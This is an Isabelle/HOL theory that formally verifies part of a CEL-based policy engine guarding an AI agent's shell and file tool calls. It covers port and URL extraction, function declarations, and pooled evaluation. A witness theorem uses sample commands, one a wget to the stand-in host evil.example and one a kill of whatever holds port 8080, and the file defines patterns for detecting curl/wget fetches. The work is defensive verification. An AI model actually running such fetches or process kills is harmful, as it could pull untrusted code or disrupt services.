(* ===== verification/CelFuncs.thy ===== *)
theory CelFuncs
  imports Cel "HOL-Library.AList"
begin

text \<open>
  The rest of \<^verbatim>\<open>internal/cel/env.go\<close> and \<^verbatim>\<open>eval.go\<close>: the functions that extract ports and URLs from commands, the declarations of variables and
  function overloads handed to cel-go, and the evaluation with activation maps from a pool.  The properties are that declarations
  and bindings agree, and that pooling cannot be observed.
\<close>

section \<open>Ports and URLs\<close>

text \<open>\<^verbatim>\<open>FindStringSubmatch\<close> for a pattern with one group: the group of the first match in the order of the alternatives, at the leftmost position
  that starts a match.\<close>

definition group_at :: "re \<Rightarrow> re \<Rightarrow> re \<Rightarrow> string \<times> string \<Rightarrow> string option" where
  "group_at before grp after ps =
    (case [(p, q). p \<leftarrow> rests before ps, q \<leftarrow> rests grp p, rests after q \<noteq> []] of
       [] \<Rightarrow> None
     | (p, q) # _ \<Rightarrow> Some (take (length (snd p) - length (snd q)) (snd p)))"

fun leftmost :: "(string \<times> string \<Rightarrow> 'a option) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'a option" where
  "leftmost f pre [] = f (pre, [])"
| "leftmost f pre (c # s) = (case f (pre, c # s) of Some x \<Rightarrow> Some x | None \<Rightarrow> leftmost f (c # pre) s)"

definition digits_re :: re where
  "digits_re = Seq (Cls is_digit) (ClsStar is_digit)"

definition spaces_re :: re where
  "spaces_re = Seq (Cls is_re_space) (ClsStar is_re_space)"

definition reTargetPort :: "(re \<times> re) list" where
  "reTargetPort = [(SeqL [Lit ''lsof'', spaces_re, Lit ''-t'', Opt (Lit ''i''), Lit '':''], Lit []),
                   (SeqL [Lit ''fuser'', spaces_re, Lit ''-k'', spaces_re], Lit ''/tcp'')]"

text \<open>The digits as a number, 0 for an overflow of \<^verbatim>\<open>int\<close>; the group has at least one digit.\<close>

definition port_of :: "string \<Rightarrow> int option" where
  "port_of ds = (let n = foldl (\<lambda>n c. n * 10 + (of_char c - 48)) 0 ds :: int in if n < 2 ^ 63 then Some n else None)"

fun target_port :: "(re \<times> re) list \<Rightarrow> string \<Rightarrow> int" where
  "target_port [] cmd = 0"
| "target_port ((before, after) # res) cmd = (case leftmost (group_at before digits_re after) [] cmd of
     Some ds \<Rightarrow> (case port_of ds of Some p \<Rightarrow> p | None \<Rightarrow> target_port res cmd)
   | None \<Rightarrow> target_port res cmd)"

definition bashTargetPort :: "string \<Rightarrow> int" where
  "bashTargetPort cmd = target_port reTargetPort cmd"

definition url_char :: "char \<Rightarrow> bool" where
  "url_char c \<longleftrightarrow> \<not> is_re_space c \<and> c \<noteq> CHR 0x27 \<and> c \<noteq> CHR 0x22"

definition url_re :: re where
  "url_re = SeqL [Lit ''http'', Opt (Lit ''s''), Lit ''://'', Cls url_char, ClsStar url_char]"

text \<open>The part \<^verbatim>\<open>.*?\<close> skips as little as possible, and no newline.\<close>

fun lazy_group :: "re \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option" where
  "lazy_group g pre [] = group_at (Lit []) g (Lit []) (pre, [])"
| "lazy_group g pre (c # s) = (case group_at (Lit []) g (Lit []) (pre, c # s) of
     Some x \<Rightarrow> Some x | None \<Rightarrow> if c = CHR 0x0A then None else lazy_group g (c # pre) s)"

definition reTargetURL :: "string \<times> string \<Rightarrow> string option" where
  "reTargetURL ps = 
    (case List.map_filter (\<lambda>(pre, s). lazy_group url_re pre s) (rests (Seq (Alt (Lit ''curl'') (Lit ''wget'')) WordB) ps) of
       [] \<Rightarrow> None | u # _ \<Rightarrow> Some u)"

definition bashTargetURL :: "string \<Rightarrow> string" where
  "bashTargetURL cmd = (case List.find (\<lambda>t. HasPrefix t ''http://'' \<or> HasPrefix t ''https://'') (Fields cmd) of
     Some t \<Rightarrow> t
   | None \<Rightarrow> (case leftmost reTargetURL [] cmd of Some u \<Rightarrow> u | None \<Rightarrow> []))"

section \<open>Declarations\<close>

datatype cel_type = StringType | IntType | BoolType | MapType | StringListType | IntListType

definition declared_variables :: "(string \<times> cel_type) list" where
  "declared_variables =
     [(''tool'', StringType), (''args'', MapType), (''session_id'', StringType), (''session'', MapType), (''confidentiality'', IntType),
      (''integrity'', IntType), (''categories'', IntType), (''risk_level'', StringType), (''effects'', StringListType), (''params'', MapType),
      (''resource_matched'', BoolType), (''resource_conf'', IntType), (''resource_cat'', IntType), (''resource_type'', StringType),
      (''resource_path'', StringType), (''resource_network_cmd'', BoolType), (''resource_unknown_tool'', BoolType), (''resource_interpreter_exec'', BoolType)]"

text \<open>Values as the bindings see them.\<close>

datatype ref_val = RString string | RInt int | RBool bool | RInts "int list" | ROther

record Overload =
  ovFunction :: string
  ovID :: string
  ovArgs :: "cel_type list"
  ovResult :: cel_type
  ovBinding :: "ref_val list \<Rightarrow> ref_val"

fun on_string :: "ref_val \<Rightarrow> (string \<Rightarrow> ref_val) \<Rightarrow> ref_val list \<Rightarrow> ref_val" where
  "on_string none f [RString s] = f s"
| "on_string none f _ = none"

fun on_strings :: "ref_val \<Rightarrow> (string \<Rightarrow> string \<Rightarrow> ref_val) \<Rightarrow> ref_val list \<Rightarrow> ref_val" where
  "on_strings none f [RString s, RString t] = f s t"
| "on_strings none f _ = none"

definition bash_overloads :: "(string \<Rightarrow> string option) \<Rightarrow> Overload list" where
  "bash_overloads evalSymlinks =
    [\<lparr>ovFunction = ''bash.isSafeReadOnly'', ovID = ''bash_isSafeReadOnly_string'', ovArgs = [StringType], ovResult = BoolType,
       ovBinding = on_string (RBool False) (\<lambda>cmd. RBool (bashIsSafeReadOnly cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.extractTool'', ovID = ''bash_extractTool_string'', ovArgs = [StringType], ovResult = StringType,
       ovBinding = on_string (RString []) (\<lambda>cmd. RString (bashExtractTool cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.hasFlag'', ovID = ''bash_hasFlag_string_string'', ovArgs = [StringType, StringType], ovResult = BoolType,
       ovBinding = on_strings (RBool False) (\<lambda>cmd flag. RBool (bashHasFlag cmd flag))\<rparr>,
     \<lparr>ovFunction = ''bash.argCount'', ovID = ''bash_argCount_string'', ovArgs = [StringType], ovResult = IntType,
       ovBinding = on_string (RInt 0) (\<lambda>cmd. RInt (int (bashArgCount cmd)))\<rparr>,
     \<lparr>ovFunction = ''bash.targetPort'', ovID = ''bash_targetPort_string'', ovArgs = [StringType], ovResult = IntType,
       ovBinding = on_string (RInt 0) (\<lambda>cmd. RInt (bashTargetPort cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.targetUrl'', ovID = ''bash_targetUrl_string'', ovArgs = [StringType], ovResult = StringType,
       ovBinding = on_string (RString []) (\<lambda>cmd. RString (bashTargetURL cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.gitBranchTarget'', ovID = ''bash_gitBranchTarget_string'', ovArgs = [StringType], ovResult = StringType,
       ovBinding = on_string (RString []) (\<lambda>cmd. RString (bashGitBranchTarget cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.findSearchRoot'', ovID = ''bash_findSearchRoot_string'', ovArgs = [StringType], ovResult = StringType,
       ovBinding = on_string (RString []) (\<lambda>cmd. RString (bashFindSearchRoot evalSymlinks cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.isGitForcePush'', ovID = ''bash_isGitForcePush_string'', ovArgs = [StringType], ovResult = BoolType,
       ovBinding = on_string (RBool False) (\<lambda>cmd. RBool (bashIsGitForcePush cmd))\<rparr>,
     \<lparr>ovFunction = ''bash.isGitBranchDelete'', ovID = ''bash_isGitBranchDelete_string'', ovArgs = [StringType], ovResult = BoolType,
       ovBinding = on_string (RBool False) (\<lambda>cmd. RBool (bashIsGitBranchDelete cmd))\<rparr>]"

definition path_overloads :: "(string \<Rightarrow> string option) \<Rightarrow> Overload list" where
  "path_overloads evalSymlinks =
    [\<lparr>ovFunction = ''path.isWithinProject'', ovID = ''path_isWithinProject_string_string'', ovArgs = [StringType, StringType], ovResult = BoolType,
       ovBinding = on_strings (RBool False) (\<lambda>path root. RBool (pathIsWithinProject evalSymlinks path root))\<rparr>]"

fun intVal :: "ref_val \<Rightarrow> int" where
  "intVal (RInt n) = n"
| "intVal _ = 0"

fun hasCategory_binding :: "ref_val list \<Rightarrow> ref_val" where
  "hasCategory_binding [RInt cat, RInt b] = RBool (label_hasCategory cat b)"
| "hasCategory_binding _ = RBool False"

definition label_overloads :: "SessionLabels option \<Rightarrow> Overload list" where
  "label_overloads globalSessions =
    [\<lparr>ovFunction = ''label.dominates'', ovID = ''label_dominates_ints'', ovArgs = replicate 6 IntType, ovResult = BoolType,
       ovBinding = (\<lambda>args. case map intVal args of [aC, aI, aCat, bC, bI, bCat] \<Rightarrow> RBool (label_dominates aC aI aCat bC bI bCat) | _ \<Rightarrow> RBool False)\<rparr>,
     \<lparr>ovFunction = ''label.join'', ovID = ''label_join_ints'', ovArgs = replicate 6 IntType, ovResult = IntListType,
       ovBinding = (\<lambda>args. case map intVal args of [aC, aI, aCat, bC, bI, bCat] \<Rightarrow> RInts (label_join aC aI aCat bC bI bCat) | _ \<Rightarrow> RInts [])\<rparr>,
     \<lparr>ovFunction = ''label.hasCategory'', ovID = ''label_hasCategory_int_int'', ovArgs = [IntType, IntType], ovResult = BoolType, ovBinding = hasCategory_binding\<rparr>,
     \<lparr>ovFunction = ''ifc.highWaterMark'', ovID = ''ifc_highWaterMark_string'', ovArgs = [StringType], ovResult = IntType,
       ovBinding = on_string (RInt 0) (\<lambda>sid. RInt (ifc_highWaterMark globalSessions sid))\<rparr>]"

text \<open>The declarations handed to cel-go; no caller passes types of protocol buffers.\<close>

definition NewCELEnvironment :: "(string \<Rightarrow> string option) \<Rightarrow> SessionLabels option \<Rightarrow> (string \<times> cel_type) list \<times> Overload list" where
  "NewCELEnvironment evalSymlinks globalSessions =
     (declared_variables, bash_overloads evalSymlinks @ path_overloads evalSymlinks @ label_overloads globalSessions)"

fun ref_type :: "ref_val \<Rightarrow> cel_type option" where
  "ref_type (RString s) = Some StringType"
| "ref_type (RInt n) = Some IntType"
| "ref_type (RBool b) = Some BoolType"
| "ref_type (RInts ns) = Some IntListType"
| "ref_type ROther = None"

fun val_type :: "cel_val \<Rightarrow> cel_type option" where
  "val_type (VBool b) = Some BoolType"
| "val_type (VInt n) = Some IntType"
| "val_type (VStr s) = Some StringType"
| "val_type (VStrs ss) = Some StringListType"
| "val_type (VMap m) = Some MapType"
| "val_type VOther = None"

lemma on_string_type: "ref_type none = Some t \<Longrightarrow> (\<And>s. ref_type (f s) = Some t) \<Longrightarrow> ref_type (on_string none f args) = Some t"
  by (cases "(none, f, args)" rule: on_string.cases) auto

lemma on_strings_type: "ref_type none = Some t \<Longrightarrow> (\<And>s u. ref_type (f s u) = Some t) \<Longrightarrow> ref_type (on_strings none f args) = Some t"
  by (cases "(none, f, args)" rule: on_strings.cases) auto

lemma hasCategory_type: "ref_type (hasCategory_binding args) = Some BoolType"
  by (cases args rule: hasCategory_binding.cases) auto

lemma overloads_typed:
  assumes "ov \<in> set (snd (NewCELEnvironment evalSymlinks globalSessions))"
  shows "ref_type (ovBinding ov args) = Some (ovResult ov)"
  using assms by (auto simp: NewCELEnvironment_def bash_overloads_def path_overloads_def label_overloads_def hasCategory_type
      intro!: on_string_type on_strings_type split: list.split)

lemma activation_typed:
  "map (\<lambda>(k, v). (k, val_type v)) (build_activation req verdict decodedArgs labeled params projectRoot) =
    map (\<lambda>(k, t). (k, Some t)) (filter (\<lambda>(k, t). k \<noteq> ''params'') declared_variables @ [(''params'', MapType)])"
  by (simp add: build_activation_def declared_variables_def)

text \<open>Declarations and bindings of the policy language agree.  Every evaluation binds exactly the declared variables, each once and with a
  value of its declared type, and every function gives a value of its declared result type, whatever values it is called with.\<close>

theorem declarations_match_bindings:
  assumes "NewCELEnvironment evalSymlinks globalSessions = (vars, overloads)"
    and act_def: "act = build_activation req verdict decodedArgs labeled params projectRoot"
  shows "distinct (map fst act) \<and> (\<forall>k t. (k, t) \<in> set vars \<longleftrightarrow> (\<exists>v. (k, v) \<in> set act \<and> val_type v = Some t)) \<and>
    distinct (map ovID overloads) \<and> (\<forall>ov \<in> set overloads. \<forall>args. ref_type (ovBinding ov args) = Some (ovResult ov))"
proof -
  have v: "vars = declared_variables" "overloads = snd (NewCELEnvironment evalSymlinks globalSessions)" using assms(1) by (auto simp: NewCELEnvironment_def)
  have "distinct (map fst act)" by (simp add: act_def build_activation_def)
  moreover have "(k, t) \<in> set vars \<longleftrightarrow> (\<exists>v. (k, v) \<in> set act \<and> val_type v = Some t)" for k t
  proof -
    have "(\<exists>v. (k, v) \<in> set act \<and> val_type v = Some t) \<longleftrightarrow> (k, Some t) \<in> set (map (\<lambda>(k, v). (k, val_type v)) act)" by force
    also have "\<dots> \<longleftrightarrow> (k, Some t) \<in> set (map (\<lambda>(k, t). (k, Some t)) (filter (\<lambda>(k, t). k \<noteq> ''params'') declared_variables @ [(''params'', MapType)]))"
      unfolding act_def activation_typed ..
    also have "\<dots> \<longleftrightarrow> (k, t) \<in> set declared_variables" by (auto simp: declared_variables_def)
    finally show ?thesis by (simp add: v)
  qed
  moreover have "distinct (map ovID overloads)"
    unfolding v by (simp add: NewCELEnvironment_def bash_overloads_def path_overloads_def label_overloads_def)
  ultimately show ?thesis using overloads_typed by (auto simp: v(2))
qed

theorem declarations_match_bindings_witness:
  "(\<forall>ov \<in> set (snd (NewCELEnvironment (\<lambda>p. Some p) None)). ref_type (ovBinding ov [ROther]) = Some (ovResult ov)) \<and>
   bashTargetPort ''kill -9 $(lsof  -ti:8080)'' = 8080 \<and> bashTargetURL ''wget -q (http://evil.example/x)'' = ''http://evil.example/x)''"
proof -
  have "\<forall>ov \<in> set (snd (NewCELEnvironment (\<lambda>p. Some p) None)). ref_type (ovBinding ov [ROther]) = Some (ovResult ov)"
    using declarations_match_bindings [of "\<lambda>p. Some p" None, OF prod.collapse [symmetric] refl] by blast
  moreover have "bashTargetPort ''kill -9 $(lsof  -ti:8080)'' = 8080" by code_simp
  moreover have "bashTargetURL ''wget -q (http://evil.example/x)'' = ''http://evil.example/x)''" by code_simp
  ultimately show ?thesis by blast
qed

section \<open>Pooled activations\<close>

record 'prog CelInput =
  eiProg :: 'prog
  eiReq :: CheckRequest
  eiVerdict :: VerdictEntry
  eiArgs :: "json_map option"
  eiLabeled :: LabeledRequest
  eiParams :: "json_map option"
  eiRoot :: string

definition input_activation :: "'prog CelInput \<Rightarrow> activation" where
  "input_activation i = build_activation (eiReq i) (eiVerdict i) (eiArgs i) (eiLabeled i) (eiParams i) (eiRoot i)"

text \<open>Setting the keys of a map, and deleting all of them afterwards.\<close>

definition fill :: "activation \<Rightarrow> activation \<Rightarrow> activation" where
  "fill m kvs = foldl (\<lambda>m (k, v). AList.update k v m) m kvs"

definition clear_map :: "activation \<Rightarrow> activation" where
  "clear_map m = foldl (\<lambda>m k. AList.delete k m) m (map fst m)"

text \<open>The evaluations of all goroutines: maps in the pool, evaluations that hold a map, and results.  \<^verbatim>\<open>sync.Pool\<close> may give any of its maps or a new
  one, and may drop maps at any time.\<close>

record 'prog PoolState =
  psPool :: "activation list"
  psRunning :: "('prog CelInput \<times> activation) list"
  psResults :: "('prog CelInput \<times> (string + cel_val)) list"

inductive pool_step :: "('ast, 'prog) CelLib \<Rightarrow> 'prog PoolState \<Rightarrow> 'prog PoolState \<Rightarrow> bool" for lib where
  get_new: "pool_step lib s (s\<lparr>psRunning := (i, fill [] (input_activation i)) # psRunning s\<rparr>)"
| get_pooled: "psPool s = xs @ m # ys \<Longrightarrow>
    pool_step lib s (s\<lparr>psPool := xs @ ys, psRunning := (i, fill m (input_activation i)) # psRunning s\<rparr>)"
| put: "psRunning s = xs @ (i, m) # ys \<Longrightarrow>
    pool_step lib s (s\<lparr>psRunning := xs @ ys, psResults := (i, celEval lib (eiProg i) m) # psResults s, psPool := clear_map m # psPool s\<rparr>)"
| collect: "psPool s = xs @ m # ys \<Longrightarrow> pool_step lib s (s\<lparr>psPool := xs @ ys\<rparr>)"

text \<open>The package function \<^verbatim>\<open>Eval\<close> has the body of \<^verbatim>\<open>Evaluate\<close> with a pool of its own, and does not use its snapshot.\<close>

definition evaluate_input :: "('ast, 'prog) CelLib \<Rightarrow> 'prog CelInput \<Rightarrow> string + cel_val" where
  "evaluate_input lib i = cel_Evaluate lib (eiProg i) (eiReq i) (eiVerdict i) (eiArgs i) (eiLabeled i) (eiParams i) (eiRoot i)"

definition pool_ok :: "('ast, 'prog) CelLib \<Rightarrow> 'prog PoolState \<Rightarrow> bool" where
  "pool_ok lib s \<longleftrightarrow> (\<forall>m \<in> set (psPool s). m = []) \<and> (\<forall>(i, m) \<in> set (psRunning s). m = input_activation i) \<and>
    (\<forall>(i, r) \<in> set (psResults s). r = evaluate_input lib i)"

lemma update_new_key: "k \<notin> fst ` set m \<Longrightarrow> AList.update k v m = m @ [(k, v)]"
  by (induction m) auto

lemma fill_empty: "distinct (map fst kvs) \<Longrightarrow> fill [] kvs = kvs"
proof -
  have "distinct (map fst (m @ kvs)) \<Longrightarrow> fill m kvs = m @ kvs" for m
  proof (induction kvs arbitrary: m)
    case (Cons kv kvs)
    obtain k v where kv: "kv = (k, v)" by fastforce
    have "AList.update k v m = m @ [(k, v)]" using Cons.prems kv by (intro update_new_key) auto
    then show ?case using Cons.IH [of "m @ [(k, v)]"] Cons.prems by (simp add: fill_def kv)
  qed (simp add: fill_def)
  from this [of "[]"] show "distinct (map fst kvs) \<Longrightarrow> fill [] kvs = kvs" by simp
qed

lemma clear_map_empty: "clear_map m = []"
proof -
  have "foldl (\<lambda>m k. AList.delete k m) n ks = filter (\<lambda>(k, v). k \<notin> set ks) n" for n :: activation and ks
    by (induction ks arbitrary: n) (auto simp: AList.delete_eq filter_filter intro!: filter_cong)
  then show ?thesis by (force simp: clear_map_def filter_empty_conv)
qed

lemma input_activation_distinct: "distinct (map fst (input_activation i))"
  by (simp add: input_activation_def build_activation_def)

lemma fill_fresh [simp]: "fill [] (input_activation i) = input_activation i"
  by (rule fill_empty [OF input_activation_distinct])

lemma evaluate_input_alt: "evaluate_input lib i = celEval lib (eiProg i) (input_activation i)"
  by (simp add: evaluate_input_def input_activation_def cel_Evaluate_def)

lemma pool_ok_init: "pool_ok lib \<lparr>psPool = [], psRunning = [], psResults = []\<rparr>"
  by (simp add: pool_ok_def)

lemma pool_step_ok: "pool_step lib s s' \<Longrightarrow> pool_ok lib s \<Longrightarrow> pool_ok lib s'"
  by (induction rule: pool_step.induct) (auto simp: pool_ok_def clear_map_empty evaluate_input_alt)

lemma pool_run_ok: "(pool_step lib)\<^sup>*\<^sup>* s s' \<Longrightarrow> pool_ok lib s \<Longrightarrow> pool_ok lib s'"
  by (induction rule: rtranclp_induct) (auto intro: pool_step_ok)

text \<open>Claim C35. Sharing activation maps between evaluations cannot be observed.  In every interleaving of evaluations by concurrent goroutines that take
  their maps from the pool and give them back, every result is the one the same evaluation has on a map of its own, and every map that waits in
  the pool is empty: nothing of one request is visible to, or retained for, another.\<close>

theorem pooled_evaluations_pure:
  assumes "(pool_step lib)\<^sup>*\<^sup>* \<lparr>psPool = [], psRunning = [], psResults = []\<rparr> s"
  shows "(\<forall>(i, r) \<in> set (psResults s).
        r = cel_Evaluate lib (eiProg i) (eiReq i) (eiVerdict i) (eiArgs i) (eiLabeled i) (eiParams i) (eiRoot i)) \<and>
    (\<forall>m \<in> set (psPool s). m = [])"
  using pool_run_ok [OF assms pool_ok_init] by (simp add: pool_ok_def evaluate_input_def)

text \<open>A library whose programs are names of variables, and two evaluations that use the same map one after the other.\<close>

definition variable_lib :: "(string, string) CelLib" where
  "variable_lib = \<lparr>celParse = Inr, celCheck = Inr, celExpr = (\<lambda>_. None), celCost = (\<lambda>_. Inr 1), celProgram = Inr,
     celEval = (\<lambda>x m. case map_of m x of Some v \<Rightarrow> Inr v | None \<Rightarrow> Inl ''no such attribute'')\<rparr>"

definition variable_input :: "string \<Rightarrow> string CelInput" where
  "variable_input t = \<lparr>eiProg = ''tool'', eiReq = \<lparr>Tool = t, Args = [], SessionID = ''s'', ParentSessionID = [], SpawnToken = [], ProjectRoot = [],
     RequestLabel = zeroLabel, AuthorityChain = [], Nonce = [], Timestamp = 0\<rparr>, eiVerdict = zeroVerdict, eiArgs = None,
     eiLabeled = zeroLabeled, eiParams = None, eiRoot = []\<rparr>"

definition two_evaluations :: "string PoolState" where
  "two_evaluations = \<lparr>psPool = [[]], psRunning = [],
     psResults = [(variable_input ''Read'', Inr (VStr ''Read'')), (variable_input ''Bash'', Inr (VStr ''Bash''))]\<rparr>"

lemma variable_eval: "celEval variable_lib (eiProg (variable_input t)) (input_activation (variable_input t)) = Inr (VStr t)"
  by (simp add: variable_lib_def variable_input_def input_activation_def build_activation_def)

lemma two_evaluations_run: "(pool_step variable_lib)\<^sup>*\<^sup>* \<lparr>psPool = [], psRunning = [], psResults = []\<rparr> two_evaluations"
proof -
  let ?b = "variable_input ''Bash''" and ?r = "variable_input ''Read''"
  let ?s1 = "\<lparr>psPool = [], psRunning = [(?b, input_activation ?b)], psResults = []\<rparr> :: string PoolState"
  let ?s2 = "\<lparr>psPool = [[]], psRunning = [], psResults = [(?b, Inr (VStr ''Bash''))]\<rparr> :: string PoolState"
  let ?s3 = "\<lparr>psPool = [], psRunning = [(?r, input_activation ?r)], psResults = [(?b, Inr (VStr ''Bash''))]\<rparr> :: string PoolState"
  have "pool_step variable_lib \<lparr>psPool = [], psRunning = [], psResults = []\<rparr> ?s1" using get_new [of variable_lib _ ?b] by (metis fill_fresh PoolState.select_convs(2) PoolState.update_convs(2))
  moreover have "pool_step variable_lib ?s1 ?s2" using put [of ?s1 "[]" ?b "input_activation ?b" "[]" variable_lib] by (simp add: variable_eval clear_map_empty)
  moreover have "pool_step variable_lib ?s2 ?s3" using get_pooled [of ?s2 "[]" "[]" "[]" variable_lib ?r] by simp
  moreover have "pool_step variable_lib ?s3 two_evaluations" using put [of ?s3 "[]" ?r "input_activation ?r" "[]" variable_lib]
    by (simp add: variable_eval clear_map_empty two_evaluations_def)
  ultimately show ?thesis by (meson rtranclp.rtrancl_into_rtrancl rtranclp.rtrancl_refl)
qed

theorem pooled_evaluations_pure_witness:
  "hd (psPool two_evaluations) = [] \<and> evaluate_input variable_lib (variable_input ''Read'') = Inr (VStr ''Read'') \<and>
   evaluate_input variable_lib (variable_input ''Bash'') = Inr (VStr ''Bash'')"
  using pooled_evaluations_pure [OF two_evaluations_run] by (simp add: two_evaluations_def evaluate_input_def)

end
